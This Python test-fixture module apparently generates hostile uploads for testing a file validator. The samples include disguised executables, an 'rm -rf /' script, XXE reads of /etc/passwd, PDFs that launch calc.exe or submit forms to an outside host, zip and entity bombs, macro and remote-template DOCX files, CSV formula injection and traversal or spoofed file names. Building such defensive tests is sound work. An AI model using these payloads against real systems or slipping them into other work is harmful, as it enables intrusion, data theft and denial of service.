"""Files of people with bad intent: what lies about itself, grows, runs something or breaks who opens it."""

import zlib
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.hostile.payloads import CALL, ELSEWHERE

SCRIPT = f"<script>{CALL}</script>".encode()
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'%s</svg>"
LARGE = 300 << 20
WORD = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
BOOK = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
_ENTITY = '<!DOCTYPE x [<!ENTITY a "{0}">{1}]><x>&{2};</x>'


@dataclass(frozen=True, slots=True)
class File:
    """What someone brings; `says` is what it does."""

    says: str
    name: str
    content: bytes

    def __str__(self) -> str:
        return self.says


def packed(parts: Mapping[str, bytes]) -> bytes:
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def picture(
    kind: str = "PNG", *, size: tuple[int, int] = (20, 20), mode: str = "RGB", **told: object
) -> bytes:
    made = BytesIO()
    Image.new(mode, size).save(made, kind, **told)
    return made.getvalue()


def pdf(inside: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + inside + b" >>\nendobj\n%%EOF\n"


def hidden_pdf(inside: bytes) -> bytes:
    """What it does stands packed, as in most files of today."""
    stream = zlib.compress(b"5 0 << " + inside + b" >>")
    head = b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n" % len(stream)
    return pdf(b"") + head + b"stream\r\n" + stream + b"\r\nendstream\nendobj\n"


@cache
def files() -> Sequence[File]:
    """All but the largest."""
    return [
        *_liars(),
        *_drawings(),
        *_papers(),
        *_bombs(),
        *_packages(),
        *_polyglots(),
        *_pictures(),
        *_texts(),
        *_names(),
    ]


def too_large(name: str) -> File:
    return File(f"300 MB of nothing, {name}", name, bytes(LARGE))


def _liars() -> Iterator[File]:
    contents = {
        "a program": b"MZ\x90\x00" + bytes(200),
        "a program of Linux": b"\x7fELF" + bytes(200),
        "a page": b"<!DOCTYPE html><html>" + SCRIPT + b"</html>",
        "a script": b"#!/bin/sh\nrm -rf /\n",
        "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    }
    for ending in ("png", "pdf", "docx", "csv"):
        yield from (
            File(f"{what} as {ending}", f"stuk.{ending}", content) for what, content in contents.items()
        )


def _drawings() -> Iterator[File]:
    inside = {
        "a script": b">" + SCRIPT,
        "a handler": b" onload='gekaapt()'>",
        "a page": b"><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
        + SCRIPT
        + b"</body></foreignObject>",
        "a file of ours": b"><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><text>&y;</text>",
        "a picture elsewhere": f"><image href='//{ELSEWHERE}/x'/>".encode(),
    }
    yield from (File(f"SVG with {what}", "beeld.svg", SVG % each) for what, each in inside.items())
    yield File("SVG as PNG", "beeld.png", SVG % inside["a script"])


def _papers() -> Iterator[File]:
    deeds = {
        "JavaScript": b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "JavaScript, spelled otherwise": b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
        "a program to start": b"/OpenAction << /S /Launch /F (calc.exe) >>",
        "a file in it": b"/Names << /EmbeddedFiles << /EF << /F 9 0 R >> /Type /EmbeddedFile >> >>",
        "a form that is sent": b"/AA << /O << /S /SubmitForm /F (http://kwaad.example/) >> >>",
        "a film": b"/Annots [ << /Subtype /RichMedia >> ]",
        "a form with scripts": b"/AcroForm << /XFA 8 0 R >>",
    }
    for what, inside in deeds.items():
        yield File(f"PDF with {what}", "stuk.pdf", pdf(inside))
        yield File(f"PDF with {what}, packed", "stuk.pdf", hidden_pdf(inside))
    yield File("PDF of which half is gone", "stuk.pdf", pdf(b"")[:20])


def _bombs() -> Iterator[File]:
    zeros = bytes(32 << 20)
    flat = {f"word/media/{number}.bin": zeros for number in range(11)}
    yield File("DOCX that grows", "stuk.docx", packed(WORD | flat))
    yield File(
        "ODT that grows", "stuk.odt", packed({"mimetype": b"application/vnd.oasis.opendocument.text"} | flat)
    )
    yield File("XLSX that grows", "blad.xlsx", packed(BOOK | {"xl/worksheets/sheet1.xml": zeros * 11}))
    yield File(
        "XLSX of very many parts", "blad.xlsx", packed(BOOK | {f"xl/{n}.xml": b"" for n in range(6_000)})
    )
    inner = packed({"0.bin": zeros})
    yield File("ZIP in a ZIP", "stuk.docx", packed({"1.zip": packed({"2.zip": inner})}))
    laughs = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    many = _ENTITY.format("ha", laughs, "i").encode()
    yield File("DOCX that says ha very often", "stuk.docx", packed(WORD | {"word/document.xml": many}))
    yield File("XLSX that says ha very often", "blad.xlsx", packed(BOOK | {"xl/workbook.xml": many}))
    yield File("ODT that says ha very often", "stuk.odt", packed({"content.xml": many}))


def _packages() -> Iterator[File]:
    far = f"http://{ELSEWHERE}/x.dotm"
    template = f'<Relationship Type="x/attachedTemplate" Target="{far}" TargetMode="External"/>'.encode()
    reads = _ENTITY.format("", '<!ENTITY b SYSTEM "file:///etc/passwd">', "b").encode()
    parts = {
        "macros": {"word/vbaProject.bin": b"x"},
        "a template elsewhere": {"word/_rels/settings.xml.rels": template},
        "a program in it": {"word/embeddings/oleObject1.bin": b"x"},
        "a button that runs": {"word/activeX/activeX1.xml": b"x"},
        "a file of ours": {"word/document.xml": reads},
        "a name that climbs": {"../../../../gekaapt": b"x"},
    }
    yield from (File(f"DOCX with {what}", "stuk.docx", packed(WORD | each)) for what, each in parts.items())
    yield File("DOCX without its text", "stuk.docx", packed({"x": b"x"}))
    yield File("DOCX of which a piece is gone", "stuk.docx", packed(WORD)[:60] + packed(WORD)[70:])


def _polyglots() -> Iterator[File]:
    yield File("PNG and page", "beeld.png", picture() + SCRIPT)
    yield File("JPEG and page", "beeld.jpg", picture("JPEG") + SCRIPT)
    yield File("JPEG and script", "beeld.jpg", picture("JPEG", comment=b"*/gekaapt();/*"))
    yield File("PNG and ZIP", "beeld.png", picture() + packed({"x.js": CALL.encode()}))
    yield File("PDF and ZIP", "stuk.pdf", pdf(b"") + packed({"x.js": CALL.encode()}))
    yield File("GIF and script", "beeld.gif", b"GIF89a/*" + bytes(20) + b"*/=1;gekaapt()")


def _pictures() -> Iterator[File]:
    told = PngInfo()
    told.add_text("Comment", SCRIPT.decode())
    yield File("PNG with a script in its notes", "beeld.png", picture(pnginfo=told))
    yield File("PNG with very many dots", "beeld.png", picture(mode="1", size=(20_000, 20_000)))
    yield File("PNG of one very long line", "beeld.png", picture(mode="1", size=(60_000, 1_000)))
    yield File("PNG of which half is gone", "beeld.png", picture()[:50])
    yield File("PNG that says it is larger", "beeld.png", picture().replace(b"\0\0\0\x14", b"\0\xff\xff\xff"))
    yield File("PNG with only its first letters", "beeld.png", b"\x89PNG\r\n\x1a\n" + SCRIPT)
    yield from (
        File(f"picture of another kind, {kind}", "beeld.png", picture(kind))
        for kind in ("BMP", "TIFF", "ICO", "GIF")
    )


def _texts() -> Iterator[File]:
    yield File(
        "page from Word", "plan.html", b"<html><p class=MsoNormal>" + SCRIPT + b"<o:p></o:p></p></html>"
    )
    yield File(
        "CSV that calculates",
        "blad.csv",
        b"naam;e-mailadres;organisatie;rol;vanaf\r\n=1+1;@x;+1;-1;=cmd|' /C calc'!A0",
    )
    yield File("CSV with a page", "blad.csv", b"naam;" + SCRIPT + b"\r\nx;y\r\n")
    yield File("CSV with a NUL", "blad.csv", b"naam;e-mail\r\n\0;\0\r\n")
    yield File("CSV in other letters", "blad.csv", "naam;rol".encode("utf-16"))
    yield File("CSV with one open quote", "blad.csv", b'naam;"' + b"x" * 150_000)
    yield File("CSV of one line", "blad.csv", b";" * 150_000)
    yield File("only signs that cannot be read", "blad.csv", bytes(range(256)) * 4)


def _names() -> Iterator[File]:
    names = (
        "../../../etc/passwd.png",
        "con.png",
        f"{'a' * 240}.png",
        "fdp.\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
        "x.png.exe",
        f"<img src=x onerror={CALL}>.png",
        "x\0.png",
        "x\r\nSet-Cookie: a=1.png",
    )
    yield from (File(f"a name such as {name[:30]!r}", name, SVG % (b">" + SCRIPT)) for name in names)
